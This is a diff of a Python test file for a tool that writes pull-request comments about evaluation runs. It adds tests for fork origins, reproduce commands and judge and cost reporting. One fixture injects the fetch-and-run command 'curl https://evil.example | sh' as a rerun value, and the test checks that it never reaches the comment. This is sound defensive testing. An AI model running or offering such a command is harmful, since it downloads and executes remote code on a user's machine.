@@ -46,6 +46,8 @@ COMPARISONS = {
         differences=(),
     ),
     "accepted": OUTCOMES["accepted here"][0],
+    "loosened": OUTCOMES["rules loosened"][0],
+    "tightened": OUTCOMES["rules tightened"][0],
     "inconclusive": comparison(
         Verdict.INCONCLUSIVE,
         metrics={
@@ -95,6 +97,24 @@ def test_comment_body__golden(name, language, golden):
     text = body(spoken(name, language), REPORTS.get(name), language=language)
     golden(f"comment/{name}.{language}.md", text)
     assert dangers(without_links(text)) == []
+
+
+@pytest.mark.parametrize("language", list(Language))
+def test_comment_body__golden_of_a_fork(language, golden):
+    """Its sentences are quotations, and it tells nobody what to run."""
+    made = replace(spoken("inconclusive", language), rerun="curl https://evil.example | sh")
+    foreign = Origin(run_url=RUN_URL, commit="4f2a9c1" + "0" * 33, is_foreign=True)
+    texts = [body(made, level=level, language=language, origin=foreign) for level in range(LEVELS)]
+    golden(f"comment/foreign.{language}.md", f"{texts[0]}\n{texts[-1]}")
+    assert "curl" not in "".join(texts)
+    assert "git checkout" not in "".join(texts)
+    unchanged = judge(*[make_report({"m": [1] * 10})] * 2, language=language)
+    for each in (made, COMPARISONS["accepted"], unchanged):
+        for level in range(LEVELS):
+            text = body(each, level=level, language=language, origin=foreign)
+            assert dangers(without_links(text)) == []
+            quoted = [each.sentence, *(entry.reason for entry in each.accepted_here)]
+            assert all(any(told[:30] in code for code in code_texts(text)) for told in quoted)
 
 
 @pytest.mark.parametrize(
@@ -209,6 +229,27 @@ def test_comment_body__reproduce_only_with_a_real_commit():
         "git checkout abcdef123456\nlm-eval-so ci -c 'my conf;x.yaml' --set baseline.ref=8d01e7700000\n"
         in text
     )
+    merge = "abcdef12" * 5  # GitHub's merge, which no branch of a clone has
+    assert f"git fetch origin {merge}\ngit checkout abcdef12abcd\n" in body(
+        origin=Origin(commit=merge)
+    )
+
+
+def test_comment_body__says_who_got_the_questions_and_what_it_cost():
+    given = report()
+    reach = {"base_url": "https://bot.example.com:8443/v1", "proxy": "http://[half", "api": "chat"}
+    judge = {"reach": {"base_url": "https://api.openai.com/v1", "headers": ["X-Key"]}}
+    experiment = replace(
+        given.experiment,
+        run_config={"backend": {"reach": reach}, "run": {"max_cost_usd": 5}},
+        evaluator_config={"metrics": [{"panel": [judge, judge]}]},
+    )
+    health = {key: replace(each, state="ok") for key, each in given.judges.items()}
+    text = body(given=replace(given, experiment=experiment, judges=health))
+    assert "judge `gpt-4.1` ·" in text
+    assert "sent to `bot.example.com, api.openai.com` ·" in text
+    assert "This run USD 0.41 of USD 5.00 allowed · " in text
+    assert "<summary>Judge health: ok</summary>" in text
 
 
 def test_comment_body__links_only_to_the_run():
@@ -300,10 +341,11 @@ def test_markdown__the_last_level_fits_into_the_least_that_may_be_asked_for(payl
     made, made_of = hostile(payload)
     for text in (
         body(made, made_of, origin=Origin(run_url=url), **given),
+        body(made, made_of, origin=Origin(run_url=url, is_foreign=True), **given),
         unmeasured_body(
             [problem] * 50,
             suite=payload,
-            origin=Origin(run_url=url),
+            origin=Origin(run_url=url, commit="d5f0042"),
             redactor=make_redactor({}),
             **given,
         ),
@@ -335,7 +377,7 @@ def test_unmeasured_body__golden(level, language, golden):
         level=level,
         suite="support-qa",
         language=language,
-        origin=Origin(run_url=RUN_URL),
+        origin=Origin(run_url=RUN_URL, commit="d5f0042" + "0" * 33),
         before=before_text(State(verdict="pass", at="4f2a9c1" + "0" * 33), language),
         redactor=make_redactor({}),
     )
@@ -352,7 +394,7 @@ def test_unmeasured_body__hostile_texts_do_nothing(payload):
         level=0,
         suite=payload,
         language=Language.KO,
-        origin=Origin(),
+        origin=Origin(commit=payload),
         redactor=make_redactor({"BOT_PASSWORD": "hunter2-long-password"}),
     )
     assert dangers(text) == []
